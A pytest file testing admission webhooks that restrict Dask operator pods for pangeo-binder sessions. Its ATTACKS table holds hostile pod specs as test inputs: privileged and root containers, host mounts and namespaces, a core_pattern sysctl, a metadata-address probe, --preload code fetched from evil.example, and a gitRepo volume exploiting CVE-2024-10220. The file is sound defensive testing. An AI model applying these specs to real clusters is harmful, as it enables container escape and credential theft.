"""The session policy the Dask operator's admission webhooks enforce: each rule refuses
the spec that breaks it, and KubeCluster()'s own specs pass once restricted."""

import copy

import pytest
from ruamel.yaml import YAML

from pangeo_binder.dask_operator.admission import (
    Policy,
    Session,
    cap_violation,
    dask_violations,
    object_violations,
    pod_admission_violations,
    pod_specs,
    restrict,
    scale_violations,
    session_selector,
    worker_counts,
)
from pangeo_binder.spec import without_credentials
from tests.helpers.cli import REPO_ROOT
from tests.helpers.dask_kubernetes_spec import cluster_spec

IMAGE = "registry.example.org/binder-tutorial:0123abcd"
SESSION = Session(images=frozenset({IMAGE}), max_workers=2)


def restricted_cluster() -> dict:
    spec = cluster_spec(IMAGE)
    for _, pod in pod_specs("DaskCluster", spec):
        restrict(pod)
    return spec


def test_kubeclusters_own_spec_passes_once_restricted():
    spec = cluster_spec(IMAGE)
    assert dask_violations("DaskCluster", spec, SESSION, Policy())  # as sent: refused
    assert dask_violations("DaskCluster", restricted_cluster(), SESSION, Policy()) == []


def test_workers_run_without_their_unreachable_dashboard():
    spec = cluster_spec(IMAGE)
    for where, pod in pod_specs("DaskCluster", spec):
        restrict(pod, scheduler=where.endswith("scheduler.spec"),
                 worker=where.endswith("worker.spec"))
    worker = spec["worker"]["spec"]["containers"][0]["args"]
    assert worker == ["dask-worker", "--name", "$(DASK_WORKER_NAME)", "--no-dashboard"]
    scheduler = spec["scheduler"]["spec"]["containers"][0]["args"]
    assert "--no-dashboard" not in scheduler  # the sidebar's dashboard stays


def test_a_scheduler_answers_http_only_under_the_session_s_secret_path():
    spec = cluster_spec(IMAGE)
    scheduler = spec["scheduler"]["spec"]
    scheduler["containers"][0]["args"] += ["--dashboard-prefix", "guessable"]
    scheduler["containers"][0]["readinessProbe"] = {
        "httpGet": {"port": "http-dashboard", "path": "/health"}, "periodSeconds": 1}
    restrict(scheduler, scheduler=True)
    container = scheduler["containers"][0]
    # The path is the session's secret, which the kubelet puts in from the Secret; a
    # spec's own prefix is dropped.
    assert container["args"] == ["dask-scheduler", "--host", "0.0.0.0",
                                 "--dashboard-prefix=$(PANGEO_BINDER_DASK_DASHBOARD_PREFIX)"]
    assert {"name": "PANGEO_BINDER_DASK_DASHBOARD_PREFIX", "valueFrom": {"secretKeyRef": {
        "name": "pangeo-binder-dask-tls", "key": "dashboard-prefix"}}} in container["env"]
    # A probe cannot know the path: it opens the port instead.
    assert container["readinessProbe"] == {"tcpSocket": {"port": "http-dashboard"},
                                           "periodSeconds": 1}


def test_restrict_never_overrides_what_a_spec_says():
    spec = cluster_spec(IMAGE)
    spec["scheduler"]["spec"]["containers"][0]["securityContext"] = {"privileged": True}
    restrict(spec["scheduler"]["spec"])
    assert spec["scheduler"]["spec"]["containers"][0]["securityContext"]["privileged"]
    found = dask_violations("DaskCluster", spec, SESSION, Policy())
    assert "spec.scheduler.spec.containers[0]: privileged containers are not allowed" in found


ATTACKS = {
    "privileged": (lambda p: p["containers"][0]["securityContext"].update(privileged=True),
                   "privileged containers are not allowed"),
    "root": (lambda p: p["securityContext"].update(runAsUser=0), "runAsUser must be 1000"),
    "root group": (lambda p: p["securityContext"].update(runAsGroup=0),
                   "runAsGroup must be 1000"),
    "pod root group": (lambda p: (p["securityContext"].update(runAsGroup=0),
                                  p["containers"][0]["securityContext"].update(runAsGroup=1000)),
                       "securityContext.runAsGroup: must be 1000"),
    "container root group": (lambda p: p["containers"][0]["securityContext"].update(
        runAsGroup=0), "runAsGroup must be 1000, not 0"),
    "container may be root": (lambda p: p["containers"][0]["securityContext"].update(
        runAsNonRoot=False), "runAsNonRoot must be True"),
    "fsGroup": (lambda p: p["securityContext"].update(fsGroup=0), "fsGroup: must be 1000"),
    "supplementalGroups": (lambda p: p["securityContext"].update(supplementalGroups=[0]),
                           "supplementalGroups: only 1000"),
    "seccomp unconfined": (lambda p: p["securityContext"].update(
        seccompProfile={"type": "Unconfined"}), "only RuntimeDefault or Localhost"),
    "container seccomp unconfined": (lambda p: p["containers"][0]["securityContext"].update(
        seccompProfile={"type": "Unconfined"}), "only RuntimeDefault or Localhost"),
    "selinux": (lambda p: p["securityContext"].update(
        seLinuxOptions={"type": "spc_t"}), "only a restricted type"),
    "selinux user": (lambda p: p["containers"][0]["securityContext"].update(
        seLinuxOptions={"user": "system_u"}), "no user or role"),
    "sysctls": (lambda p: p["securityContext"].update(
        sysctls=[{"name": "kernel.core_pattern", "value": "|/x"}]),
        "kernel.core_pattern is not allowed"),
    "hostProcess": (lambda p: p["containers"][0]["securityContext"].update(
        windowsOptions={"hostProcess": True}), "hostProcess: not allowed"),
    "procMount": (lambda p: p["containers"][0]["securityContext"].update(
        procMount="Unmasked"), "procMount must be Default"),
    "escalation": (lambda p: p["containers"][0]["securityContext"].update(
        allowPrivilegeEscalation=True), "allowPrivilegeEscalation must be false"),
    "unknown pod field": (lambda p: p.update(runtimeClassName="unsandboxed"),
                          "runtimeClassName: not an allowed field"),
    "unknown security field": (lambda p: p["securityContext"].update(hostUsers=True),
                               "hostUsers: not an allowed field"),
    "scheduler name": (lambda p: p.update(schedulerName="mine"), "only the default scheduler"),
    "probe host": (lambda p: p["containers"][0].update(livenessProbe={
        "httpGet": {"host": "169.254.169.254", "path": "/", "port": 80}}),
        "may not name a host"),
    "token": (lambda p: p.update(automountServiceAccountToken=True), "must be false"),
    "account": (lambda p: p.update(serviceAccountName="pangeo-binder-hub"),
                "only the session's ServiceAccount"),
    "account alias": (lambda p: p.update(serviceAccount="pangeo-binder-hub"),
                      "only the session's ServiceAccount"),
    "envFrom": (lambda p: p["containers"][0].update(envFrom=[{"secretRef": {"name": "x"}}]),
                "envFrom: not allowed"),
    "preload": (lambda p: p["containers"][0].update(
        args=["dask-worker", "--preload", "https://evil.example/p.py"]),
        "option --preload is not allowed"),
    "preload nanny": (lambda p: p["containers"][0].update(
        args=["dask-worker", "--preload-nanny=https://evil.example/p.py"]),
        "option --preload-nanny is not allowed"),
    "jupyter": (lambda p: p["containers"][0].update(args=["dask-scheduler", "--jupyter"]),
                "option --jupyter is not allowed"),
    "tls files": (lambda p: p["containers"][0].update(command=["dask", "scheduler",
                                                               "--tls-ca-file", "/x"]),
                  "option --tls-ca-file is not allowed"),
    "hostPath": (lambda p: p.update(volumes=[{"name": "node", "hostPath": {"path": "/"}}]),
                 "hostPath volumes are not allowed"),
    # CVE-2024-10220: the kubelet runs a repository's hooks as root on the node.
    "gitRepo": (lambda p: p.update(volumes=[{"name": "r", "gitRepo": {
        "repository": "https://evil.example/r.git", "directory": "r/.git"}}]),
        "gitRepo volumes are not allowed"),
    "nfs": (lambda p: p.update(volumes=[{"name": "n", "nfs": {"server": "x", "path": "/"}}]),
            "nfs volumes are not allowed"),
    "hostNetwork": (lambda p: p.update(hostNetwork=True), "host namespaces are not allowed"),
    "hostPID": (lambda p: p.update(hostPID=True), "host namespaces are not allowed"),
    "nodeName": (lambda p: p.update(nodeName="node-1"), "choosing a node is not allowed"),
    "image": (lambda p: p["containers"][0].update(image="docker.io/miner:latest"),
              "is not the session's image"),
    "capabilities": (lambda p: p["containers"][0]["securityContext"].update(
        capabilities={"add": ["NET_BIND_SERVICE", "SYS_ADMIN"], "drop": ["ALL"]}),
        "adding capabilities SYS_ADMIN is not allowed"),
    "capabilities kept": (lambda p: p["containers"][0]["securityContext"].update(
        capabilities={"drop": ["NET_RAW"]}), "capabilities must drop ALL"),
    "priority": (lambda p: p.update(priorityClassName="system-node-critical"),
                 "priority class 'system-node-critical' is not allowed"),
    "tolerations": (lambda p: p.update(tolerations=[{"operator": "Exists"}]),
                    "is not allowed"),
    "hostPort": (lambda p: p["containers"][0].update(ports=[{"containerPort": 80,
                                                             "hostPort": 80}]),
                 "host ports are not allowed"),
    "init container": (lambda p: p.update(initContainers=[{"name": "x", "image": "evil"}]),
                       "is not the session's image"),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
@pytest.mark.parametrize("part", ["scheduler", "worker"])
def test_each_forbidden_pod_shape_is_refused_by_name(attack, part):
    spec = restricted_cluster()
    change, rule = ATTACKS[attack]
    change(spec[part]["spec"])
    found = dask_violations("DaskCluster", spec, SESSION, Policy())
    assert any(rule in line and line.startswith(f"spec.{part}.spec") for line in found), found


@pytest.mark.parametrize("kind", ["NodePort", "LoadBalancer", "ExternalName"])
def test_only_clusterip_scheduler_services(kind):
    spec = restricted_cluster()
    spec["scheduler"]["service"]["type"] = kind
    assert dask_violations("DaskCluster", spec, SESSION, Policy()) == [
        f"spec.scheduler.service.type: {kind} services are not allowed (ClusterIP only)"]


def test_a_dask_job_is_checked_in_its_runner_and_its_cluster():
    runner = {"containers": [{"name": "job", "image": IMAGE}]}
    restrict(runner)
    cluster = restricted_cluster()
    cluster["worker"]["spec"]["hostNetwork"] = True
    job = {"job": {"spec": copy.deepcopy(runner)}, "cluster": {"spec": cluster}}
    job["job"]["spec"]["containers"][0]["securityContext"]["privileged"] = True
    found = dask_violations("DaskJob", job, SESSION, Policy())
    assert any(f.startswith("spec.job.spec.containers[0]: privileged") for f in found)
    assert any(f.startswith("spec.cluster.spec.worker.spec.hostNetwork") for f in found)


def test_an_operator_may_allow_more():
    spec = restricted_cluster()
    spec["worker"]["spec"]["containers"][0]["image"] = "registry.example.org/gpu:1"
    spec["worker"]["spec"]["priorityClassName"] = "workshop"
    policy = Policy(image_prefixes=("registry.example.org/",), priority_classes=("workshop",))
    assert dask_violations("DaskCluster", spec, SESSION, policy) == []


def group(name, cluster, replicas):
    return {"metadata": {"name": name}, "spec": {"cluster": cluster,
                                                 "worker": {"replicas": replicas}}}


def test_workers_are_capped_over_all_clusters_and_groups():
    clusters = [{"metadata": {"name": "a"}, "spec": {"worker": {"replicas": 1}}}]
    groups = [group("a-default", "a", 1)]
    counts = worker_counts(clusters, groups)
    # A second cluster of 1 fits the cap of 2; of 2 it does not.
    assert cap_violation("DaskCluster", "b", {"worker": {"replicas": 1}}, counts,
                         SESSION) is None
    assert "3 workers in all of this session's Dask clusters is more than its cap of 2" in \
        cap_violation("DaskCluster", "b", {"worker": {"replicas": 2}}, counts, SESSION)
    # More worker groups than the cap, one worker each.
    assert cap_violation("DaskWorkerGroup", "extra", {"worker": {"replicas": 2}}, counts,
                         SESSION)
    # The operator making a new cluster's default group: counted once, as the group.
    fresh = worker_counts([{"metadata": {"name": "c"}, "spec": {"worker": {"replicas": 2}}}],
                          [])
    assert cap_violation("DaskWorkerGroup", "c-default", {"cluster": "c",
                                                          "worker": {"replicas": 2}},
                         fresh, SESSION) is None
    # Scaling the default group is counted once, not beside the cluster's old replicas.
    assert cap_violation("DaskWorkerGroup", "a-default", {"worker": {"replicas": 2}},
                         counts, SESSION) is None


def test_an_autoscaler_cannot_reach_past_the_cap():
    assert dask_violations("DaskAutoscaler", {"cluster": "a", "minimum": 0, "maximum": 50},
                           SESSION, Policy()) == [
        "spec.maximum: 50 workers is more than this session's cap of 2"]


def test_restrict_sets_what_the_policy_fixes_whatever_a_spec_says():
    spec = cluster_spec(IMAGE)
    pod = spec["scheduler"]["spec"]
    pod.update(automountServiceAccountToken=True,
               securityContext={"runAsUser": 0, "runAsGroup": 0, "fsGroup": 0,
                                "runAsNonRoot": False})
    pod["containers"][0]["securityContext"] = {
        "runAsGroup": 0, "allowPrivilegeEscalation": True, "capabilities": {"drop": ["X"]}}
    for _, each in pod_specs("DaskCluster", spec):
        restrict(each)
    assert pod["automountServiceAccountToken"] is False
    assert pod["securityContext"] == {"runAsUser": 1000, "runAsGroup": 1000, "fsGroup": 1000,
                                      "runAsNonRoot": True,
                                      "seccompProfile": {"type": "RuntimeDefault"}}
    assert pod["containers"][0]["securityContext"] == {
        "runAsGroup": 1000, "allowPrivilegeEscalation": False,
        "capabilities": {"drop": ["X", "ALL"]}}
    assert dask_violations("DaskCluster", spec, SESSION, Policy()) == []


def test_restrict_leaves_choices_to_the_validator():
    spec = restricted_cluster()
    pod = spec["worker"]["spec"]
    pod["securityContext"]["seccompProfile"] = {"type": "Unconfined"}
    restrict(pod)
    assert pod["securityContext"]["seccompProfile"] == {"type": "Unconfined"}
    assert dask_violations("DaskCluster", spec, SESSION, Policy()) == [
        "spec.worker.spec.securityContext.seccompProfile: only RuntimeDefault or Localhost"]


# Every spelling dask reads as the same setting (case, `-` or `_`, `__` or `.`), a
# parent of it, and where Dask loads code or configuration from.
OPERATOR_SETTINGS = [
    "DASK_DISTRIBUTED__COMM__REQUIRE-ENCRYPTION", "DASK_distributed__comm__require_encryption",
    "DASK_DISTRIBUTED.COMM.REQUIRE_ENCRYPTION", "DASK_DISTRIBUTED__COMM", "DASK_DISTRIBUTED",
    "DASK_DISTRIBUTED__COMM__TLS__CA-FILE", "DASK_DISTRIBUTED__COMM__DEFAULT_SCHEME",
    "DASK_DISTRIBUTED__SCHEDULER__HTTP__ROUTES", "DASK_DISTRIBUTED__SCHEDULER__DASHBOARD__TLS",
    "DASK_CONFIG", "DASK_ROOT_CONFIG", "DASK_INTERNAL_INHERIT_CONFIG",
    "DASK_DISTRIBUTED__WORKER__PRELOAD", "DASK_DISTRIBUTED__NANNY__PRELOAD-ARGV",
    "DASK_DISTRIBUTED__NANNY__ENVIRON", "DASK_DISTRIBUTED__SCHEDULER__JUPYTER"]


@pytest.mark.parametrize("name", OPERATOR_SETTINGS)
def test_the_operators_dask_settings_are_its_own(name):
    spec = restricted_cluster()
    spec["worker"]["spec"]["containers"][0]["env"].append({"name": name, "value": "False"})
    assert dask_violations("DaskCluster", spec, SESSION, Policy()) == [
        f"spec.worker.spec.containers[0].env[{name}]: this Dask setting is the operator's"]


def test_a_session_may_tune_the_rest_of_dask():
    spec = restricted_cluster()
    spec["worker"]["spec"]["containers"][0]["env"] += [
        {"name": "DASK_DISTRIBUTED__WORKER__MEMORY__TARGET", "value": "0.7"},
        {"name": "DASK_ARRAY__CHUNK_SIZE", "value": "64MiB"}, {"name": "OMP_NUM_THREADS",
                                                             "value": "1"}]
    assert dask_violations("DaskCluster", spec, SESSION, Policy()) == []


def cluster_object(name="work", labels=None, **spec_changes) -> dict:
    spec = restricted_cluster()
    spec.update(spec_changes)
    return {"kind": "DaskCluster", "metadata": {"name": name, "labels": labels or {}},
            "spec": spec}


RESERVED = [("pangeo-binder/session", "true"), ("app.kubernetes.io/part-of", "pangeo-binder"),
            ("pangeo-binder/user", "alice"), ("dask.org/component", "scheduler")]


@pytest.mark.parametrize("key, value", RESERVED)
@pytest.mark.parametrize("place", ["metadata", "spec.scheduler.metadata",
                                   "spec.worker.metadata"])
def test_reserved_labels_are_refused_wherever_the_operator_copies_them(key, value, place):
    body = cluster_object()
    target = body["metadata"] if place == "metadata" else \
        body["spec"][place.split(".")[1]].setdefault("metadata", {})
    target.setdefault("labels", {})[key] = value
    assert object_violations("DaskCluster", body, None, SESSION, Policy()) == [
        f"{place}.labels[{key}]: reserved for pangeo-binder and the Dask operator"]


def test_a_dask_job_copies_metadata_from_its_runner_and_its_cluster():
    runner = {"containers": [{"name": "job", "image": IMAGE}]}
    restrict(runner)
    cluster = restricted_cluster()
    cluster["scheduler"]["metadata"] = {"labels": {"pangeo-binder/session": "true"}}
    body = {"kind": "DaskJob", "metadata": {"name": "j"}, "spec": {
        "job": {"metadata": {"labels": {"app.kubernetes.io/part-of": "pangeo-binder"}},
                "spec": runner},
        "cluster": {"metadata": {"annotations": {"pangeo-binder/user": "alice"}},
                    "spec": cluster}}}
    assert object_violations("DaskJob", body, None, SESSION, Policy()) == [
        "spec.job.metadata.labels[app.kubernetes.io/part-of]: reserved for pangeo-binder and "
        "the Dask operator",
        "spec.cluster.metadata.annotations[pangeo-binder/user]: reserved for pangeo-binder "
        "and the Dask operator",
        "spec.cluster.spec.scheduler.metadata.labels[pangeo-binder/session]: reserved for "
        "pangeo-binder and the Dask operator"]


@pytest.mark.parametrize("key, value", [
    ("container.apparmor.security.beta.kubernetes.io/scheduler", "unconfined"),
    ("seccomp.security.alpha.kubernetes.io/pod", "unconfined"),
    ("container.seccomp.security.alpha.kubernetes.io/worker", "unconfined")])
def test_security_profiles_in_annotations_are_restricted_too(key, value):
    body = cluster_object()
    body["spec"]["scheduler"]["metadata"] = {"annotations": {key: value}}
    assert object_violations("DaskCluster", body, None, SESSION, Policy()) == [
        f"spec.scheduler.metadata.annotations[{key}]: profile {value!r} is not allowed"]
    body["spec"]["scheduler"]["metadata"]["annotations"][key] = "runtime/default"
    assert object_violations("DaskCluster", body, None, SESSION, Policy()) == []


def test_the_operator_labels_the_objects_it_makes_but_not_their_pods():
    group = {"kind": "DaskWorkerGroup", "metadata": {
        "name": "work-default", "labels": {"dask.org/cluster-name": "work",
                                           "dask.org/component": "workergroup"}},
        "spec": {"cluster": "work", "worker": restricted_cluster()["worker"]}}
    assert object_violations("DaskWorkerGroup", group, None, SESSION, Policy(),
                             operator=True) == []
    assert object_violations("DaskWorkerGroup", group, None, SESSION, Policy())
    group["spec"]["worker"]["metadata"] = {"labels": {"dask.org/component": "scheduler"}}
    assert object_violations("DaskWorkerGroup", group, None, SESSION, Policy(),
                             operator=True) == [
        "spec.worker.metadata.labels[dask.org/component]: reserved for pangeo-binder and the "
        "Dask operator"]


def test_every_update_is_checked_spec_changed_or_not_deleting_or_not():
    old = cluster_object()
    # A metadata-only patch.
    new = copy.deepcopy(old)
    new["metadata"]["labels"]["pangeo-binder/session"] = "true"
    assert object_violations("DaskCluster", new, old, SESSION, Policy()) == [
        "metadata.labels[pangeo-binder/session]: reserved for pangeo-binder and the Dask "
        "operator"]
    # A patch of an object that a finalizer keeps after its deletion.
    old["metadata"]["deletionTimestamp"] = "2026-12-01T00:00:00Z"
    new = copy.deepcopy(old)
    new["spec"]["scheduler"]["spec"]["volumes"] = [{"name": "r", "gitRepo": {
        "repository": "https://evil.example/r.git"}}]
    assert object_violations("DaskCluster", new, old, SESSION, Policy()) == [
        "spec.scheduler.spec.volumes[r]: gitRepo volumes are not allowed"]


def test_an_unchanged_object_can_still_be_cleaned_up():
    # Made by the operator (its labels), when the session ran another image and had a
    # higher cap; its finalizer is now released, or the user scales it down.
    old = cluster_object(labels={"dask.org/cluster-name": "work"})
    old["spec"]["worker"]["replicas"] = 5
    new = copy.deepcopy(old)
    new["metadata"]["finalizers"] = []
    restarted = Session(images=frozenset({"registry.example.org/other:1"}), max_workers=2)
    counts = {"DaskCluster/work": 5}
    assert object_violations("DaskCluster", new, old, restarted, Policy(), counts=counts) == []
    # A change of its spec is checked against the session as it is now.
    new["spec"]["worker"]["replicas"] = 4
    assert len(object_violations("DaskCluster", new, old, restarted, Policy(),
                                 counts=counts)) == 3  # two images, the cap


def test_scaling_a_worker_group_through_its_scale_subresource_is_capped():
    groups = [group("work-default", "work", 1)]
    counts = worker_counts([{"metadata": {"name": "work"}, "spec": {"worker": {
        "replicas": 1}}}], groups)
    assert scale_violations("work-default", 6, 1, groups, counts, SESSION) == [
        "spec.worker.replicas: 6 workers in all of this session's Dask clusters is more "
        "than its cap of 2"]
    assert scale_violations("work-default", 2, 1, groups, counts, SESSION) == []
    # The same as changing the group itself.
    body = {"kind": "DaskWorkerGroup", "metadata": {"name": "work-default"},
            "spec": {"cluster": "work", "worker": {"replicas": 6}}}
    assert object_violations("DaskWorkerGroup", body, groups[0], SESSION, Policy(),
                             counts=counts)[-1] == scale_violations(
        "work-default", 6, 1, groups, counts, SESSION)[0]


def dask_pod(labels=None) -> dict:
    spec = restricted_cluster()["worker"]["spec"]
    return {"metadata": {"labels": {"dask.org/cluster-name": "work",
                                    "dask.org/component": "worker", **(labels or {})}},
            "spec": {**spec, "serviceAccountName": "default"}}


SESSION_POD_LABELS = {"app.kubernetes.io/part-of": "pangeo-binder",
                      "pangeo-binder/session": "true"}


def test_a_dask_pod_is_never_a_session_pod():
    assert pod_admission_violations(dask_pod(), None, SESSION, Policy(), False) == []
    forged = dask_pod(SESSION_POD_LABELS)
    assert pod_admission_violations(forged, None, SESSION, Policy(), False) == [
        "metadata.labels[pangeo-binder/session]: only session pods carry it, not Dask pods"]
    # Made by the operator (a DaskJob's runner), with no Dask label of its own.
    forged["metadata"]["labels"] = SESSION_POD_LABELS
    assert pod_admission_violations(forged, None, SESSION, Policy(), True)
    # Nor can a pod become one later.
    old = dask_pod()
    new = copy.deepcopy(old)
    new["metadata"]["labels"] = {**old["metadata"]["labels"], **SESSION_POD_LABELS}
    assert pod_admission_violations(new, old, SESSION, Policy(), False)
    # The operator's own notion of a session pod excludes Dask pods.
    assert "!dask.org/cluster-name" in session_selector().split(",")


def test_a_session_pod_runs_its_own_image_with_its_api_token():
    pod = {"metadata": {"labels": SESSION_POD_LABELS}, "spec": {
        "serviceAccountName": "pangeo-alice", "automountServiceAccountToken": True,
        "containers": [{"name": "notebook", "image": "registry.example.org/lab:1"}]}}
    restrict(pod["spec"])
    pod["spec"]["automountServiceAccountToken"] = True
    assert pod_admission_violations(pod, None, Session(), Policy(), False) == []
    pod["spec"]["volumes"] = [{"name": "r", "gitRepo": {"repository": "x"}}]
    assert pod_admission_violations(pod, None, Session(), Policy(), False) == [
        "spec.volumes[r]: gitRepo volumes are not allowed"]


def test_a_dask_pods_own_annotations_are_checked():
    pod = dask_pod()
    pod["metadata"]["annotations"] = {
        "container.apparmor.security.beta.kubernetes.io/worker": "unconfined"}
    assert pod_admission_violations(pod, None, SESSION, Policy(), False) == [
        "metadata.annotations[container.apparmor.security.beta.kubernetes.io/worker]: "
        "profile 'unconfined' is not allowed"]


WEBHOOKS = REPO_ROOT / "deploy" / "dask-operator" / "webhooks.yaml"


def test_the_webhooks_see_every_change_of_every_dask_object_and_pod():
    configs = list(YAML(typ="safe").load_all(WEBHOOKS.read_text()))
    hooks = {hook["name"].split(".")[0]: hook for config in configs
             for hook in config["webhooks"]}
    [dask_rule] = hooks["check-dask"]["rules"]
    assert set(dask_rule["resources"]) >= {"daskclusters", "daskworkergroups",
                                           "daskworkergroups/scale", "daskjobs",
                                           "daskautoscalers"}
    assert set(dask_rule["operations"]) == {"CREATE", "UPDATE"}
    assert set(hooks["check-pod"]["rules"][0]["operations"]) == {"CREATE", "UPDATE"}
    assert all(hook["failurePolicy"] == "Fail" for hook in hooks.values())


@pytest.mark.parametrize("text, shown", [
    ("https://ada:tok3n@example.org/r.git", "https://example.org/r.git"),
    ("cannot read https://ghp_SECRET@github.com/o/r: denied",
     "cannot read https://github.com/o/r: denied"),
    ("ssh://git@example.org/o/r.git", "ssh://git@example.org/o/r.git"),
    ("ssh://git:pw@example.org/o/r.git", "ssh://example.org/o/r.git"),
    ("git@github.com:o/r.git", "git@github.com:o/r.git"),
])
def test_credentials_are_removed_from_urls(text, shown):
    assert without_credentials(text) == shown
